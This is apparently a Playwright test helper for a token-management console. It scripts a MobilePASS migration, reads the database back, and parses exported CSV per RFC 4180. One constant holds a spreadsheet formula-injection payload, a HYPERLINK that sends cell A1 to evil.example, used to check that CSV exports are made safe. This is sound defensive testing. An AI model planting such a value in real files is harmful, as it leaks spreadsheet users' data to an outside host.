import type { Page } from '@playwright/test';
import { inPage, resetWorld, rowsWhere } from './hook';

/** A user whose name a spreadsheet would run as a formula, were the CSV not made safe. */
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';

/**
 * A scripted migration through the automation hook (the phone's enrollment flow is built
 * elsewhere): a 200-user mid-migration world; three users without a token are provisioned
 * (MobilePASS+ pending) and three users who hold both apps have their MobilePASS 8 token revoked
 * to inventory (migration done). One user gets a formula-like last name and a name with a comma,
 * quotes and an accent.
 */
export async function scriptedMigration(page: Page) {
	await resetWorld(page, { seed: 'x', users: 200 });
	return inPage(
		page,
		async ({ db, commands }, formula) => {
			const ok = (r: { ok: boolean; reason?: string }) => {
				if (!r.ok) throw new Error(r.reason);
			};
			await db.users.update('acme-u1', { lastName: formula });
			await db.users.update('acme-u2', { firstName: 'Zoë, "Jr"' });
			const inventoryBefore = await db.tokens
				.where('[serverId+state]')
				.equals(['acme', 'Inventory'])
				.count();
			// Three users migrate to MobilePASS+ (provisioned, then enrolled on their phones with
			// Allow); three more are provisioned and have not enrolled yet.
			const migrating = ['acme-u121', 'acme-u122', 'acme-u123'];
			const pending = ['acme-u124', 'acme-u125', 'acme-u126'];
			// Software Token & Push OTP Settings: the mobiles and Windows 10 enroll in MobilePASS+.
			for (const target of ['iOS', 'Android', 'Windows 10'])
				ok(
					await commands.changeTargetSettingCommand(db, 'acme', target, {
						allowed: true,
						app: 'MobilePASS+',
						push: true
					})
				);
			ok(await commands.provisionCommand(db, 'acme', [...migrating, ...pending]));
			for (const id of migrating) {
				const phoneId = `phone-${id}`;
				ok(await commands.installAppCommand(db, phoneId, 'mobilePassPlus'));
				const [enrollment] = await db.enrollments.where('userId').equals(id).toArray();
				ok(
					await commands.enrollCommand(db, {
						phoneId,
						app: 'MobilePASS+',
						allowPush: true,
						pin: '1357',
						code: enrollment.code
					})
				);
			}
			for (const id of ['acme-u81', 'acme-u82', 'acme-u83']) {
				const held = await db.tokens.where('userId').equals(id).toArray();
				const mp8 = held.find((t) => t.app === 'MobilePASS 8')!;
				ok(await commands.operateTokenCommand(db, mp8.serial, 'revokeToInventory'));
			}
			return { inventoryBefore };
		},
		FORMULA_NAME
	);
}

/** The world as the database holds it, read independently of the reports. */
export async function readWorld(page: Page) {
	const [users, tokens, groups] = await Promise.all([
		rowsWhere(page, 'users', 'serverId', 'acme'),
		rowsWhere(page, 'tokens', 'serverId', 'acme'),
		rowsWhere(page, 'groups', 'serverId', 'acme')
	]);
	return { users, tokens, groups };
}

/**
 * RFC 4180 parsing, written here so the test does not trust the code it checks (and by another
 * method: one sticky regular expression per field). Rows end with CRLF; a field is quoted (a
 * doubled quote inside stands for one) or bare, and ends with a comma, CRLF or the end.
 */
export function parseCsv(text: string): string[][] {
	const field = /(?:"((?:[^"]|"")*)"|((?:[^",\r]|\r(?!\n))*))(,|\r\n|$)/y;
	const rows: string[][] = [];
	let row: string[] = [];
	while (field.lastIndex < text.length) {
		const at = field.lastIndex;
		const match = field.exec(text);
		if (!match) throw new Error(`Not RFC 4180 CSV at character ${at}`);
		const [, quoted, bare, end] = match;
		row.push(quoted === undefined ? bare : quoted.replaceAll('""', '"'));
		if (end !== ',') {
			rows.push(row);
			row = [];
		}
	}
	if (row.length) rows.push([...row, '']); // the text ends with a comma: one empty field more
	return rows;
}
